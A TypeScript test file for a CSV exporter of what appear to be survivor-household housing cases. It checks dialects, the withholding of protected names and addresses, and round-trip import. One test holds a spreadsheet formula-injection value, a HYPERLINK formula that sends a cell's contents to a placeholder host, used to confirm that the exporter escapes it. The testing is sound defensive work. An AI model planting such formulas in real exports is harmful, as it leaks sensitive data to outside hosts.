import { type Case, parseCase } from '@stadig/case';
import { arbCaseInput, exampleCaseInput } from '@stadig/case/testing';
import type { DateOnly } from '@stadig/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Dialect, namedDialects } from '../dialect/Dialect';
import type { ImportedRecord } from '../import/ImportSink';
import { importCsv } from '../import/importCsv';
import { revealDeep } from '../testing/revealDeep';
import { encodeCsv } from './encodeCsv';
import { exportCases } from './exportCases';
import { formatCsv } from './formatCsv';
import type { LegalGround } from './legalGrounds';

const asOf = '2026-01-01' as DateOnly;
const ground: LegalGround = { ground: 'same-authority', reference: 'dnr 2026-1' };
const example = () => parseCase(exampleCaseInput(), { asOf })._unsafeUnwrap();

async function reimport(text: string, dialect: Dialect): Promise<Case[]> {
  const records: ImportedRecord<Case>[] = [];
  const summary = await importCsv(encodeCsv(text, dialect), {
    kind: 'cases',
    asOf,
    sink: { write: async (b) => void records.push(...b) },
  });
  expect(summary.rejections).toEqual([]);
  return records.map((r) => r.value);
}

describe('exportCases', () => {
  it('writes the Swedish Excel dialect by default: BOM, semicolons, decimal comma, ja/nej', () => {
    const text = exportCases([example()], { legalGround: ground });
    expect(text.startsWith('\uFEFFid;municipality;')).toBe(true);
    expect(text).toContain(';21500,00;ja;');
    expect(text).toContain(';60,6;15,6;nej;');
  });
  it('writes RFC 4180 on request: comma, no BOM, decimal point', () => {
    const text = exportCases([example()], { legalGround: ground, dialect: namedDialects.rfc4180 });
    expect(text.startsWith('id,municipality,')).toBe(true);
    expect(text).toContain(',21500.00,true,');
  });
  it('leaves out every protected value without a legal ground', () => {
    const text = exportCases([example()]);
    for (const secret of ['Exempelsdotter', 'Storgatan', 'Förövarens', '60,6']) {
      expect(text).not.toContain(secret);
    }
    expect(text.split('\r\n')[0]).not.toContain('name');
  });
  it('never writes the address of a household with a protected identity, even with a legal ground', () => {
    const input = {
      ...exampleCaseInput(),
      outcome: {
        date: '2025-05-01',
        solution: {
          tenure: 'first-hand-lease',
          municipality: '2062',
          contract: { start: '2025-05-01' },
          address: 'Hemliga vägen 1',
        },
      },
      events: [
        ...exampleCaseInput().events,
        { type: 'offer-made', date: '2025-04-01', offerId: 'o1', municipality: '2062' },
        { type: 'moved-in', date: '2025-05-01', offerId: 'o1' },
      ],
    };
    const parsed = parseCase(input, { asOf });
    expect(parsed.isOk()).toBe(true);
    const c = parsed._unsafeUnwrap();
    const text = exportCases([c], { legalGround: ground });
    expect(text).not.toContain('Hemliga');
    expect(text).toContain('outcome.solution.tenure');
    const open = exportCases(
      [
        {
          ...c,
          household: {
            ...c.household,
            survivor: { ...c.household.survivor, protectedIdentity: 'none' },
            children: [],
          },
        },
      ],
      { legalGround: ground },
    );
    expect(open).toContain('Hemliga vägen 1');
  });
  it('guards texts a spreadsheet would run as formulas, and they import back unchanged', async () => {
    const input = { ...exampleCaseInput(), notes: ['=HYPERLINK("http://x/"&A1)', "'+1", '-ok'] };
    const c = parseCase(input, { asOf })._unsafeUnwrap();
    const text = exportCases([c], { legalGround: ground });
    expect(text).toContain(`;"'=HYPERLINK(""http://x/""&A1)";`);
    expect(text).toContain(";''+1;'-ok");
    const [back] = await reimport(text, namedDialects['excel-sv']);
    expect(revealDeep(back?.notes)).toEqual(input.notes);
  });
  it('quotes fields with separators, quotes, newlines and surrounding space', () => {
    expect(formatCsv([['a;b', 'x"y', 'r\nn', ' s', 'ok']], namedDialects['excel-sv'])).toBe(
      '\uFEFF"a;b";"x""y";"r\nn";" s";ok\r\n',
    );
  });
});

describe('properties', () => {
  const dialects: Dialect[] = [
    namedDialects['excel-sv'],
    namedDialects.rfc4180,
    { separator: '\t', encoding: 'utf-8', decimal: ',' },
    { separator: ';', encoding: 'windows-1252', decimal: ',' },
  ];
  it('export-then-import is the identity on valid cases, in every dialect', async () => {
    await fc.assert(
      fc.asyncProperty(
        // One file holds each case id once (a second is rejected as a duplicate).
        fc.uniqueArray(arbCaseInput({ asOf }), {
          minLength: 1,
          maxLength: 3,
          selector: (i) => (i as { id: unknown }).id,
        }),
        fc.constantFrom(...dialects),
        async (inputs, dialect) => {
          const cases = inputs.map((i) => parseCase(i, { asOf })._unsafeUnwrap());
          const safe =
            dialect.encoding !== 'windows-1252' ||
            inputs.every((i) => /^[\x20-\x7e\u00a0-\u00ff]*$/.test(JSON.stringify(i)));
          fc.pre(safe);
          const back = await reimport(
            exportCases(cases, { legalGround: ground, dialect }),
            dialect,
          );
          // A household with a protected identity comes back without its address, by design.
          const expected = cases.map((c) => {
            const hidden = [
              c.household.survivor,
              ...c.household.children,
              ...c.household.otherAdults,
            ].some((p) => p.protectedIdentity !== 'none');
            const r = revealDeep(c) as { outcome?: { solution: { address?: unknown } } };
            if (hidden && r.outcome !== undefined) delete r.outcome.solution.address;
            return r;
          });
          expect(back.map(revealDeep)).toEqual(expected);
        },
      ),
      { numRuns: 40 },
    );
  });
  it('no protected value appears in an export made without a legal ground', () => {
    fc.assert(
      fc.property(arbCaseInput({ asOf }), (input) => {
        const c = parseCase(input, { asOf })._unsafeUnwrap();
        const text = exportCases([c]);
        const secrets = [
          c.household.survivor.name,
          ...c.notes,
          ...c.protection.keepDistanceFrom.flatMap((k) => (k.label ? [k.label] : [])),
        ]
          .map((p) => String(revealDeep(p)).trim())
          .filter((s) => s.length >= 3 && !/^[\w.-]+$/.test(s));
        for (const secret of secrets) expect(text).not.toContain(secret);
      }),
      { numRuns: 60 },
    );
  });
});
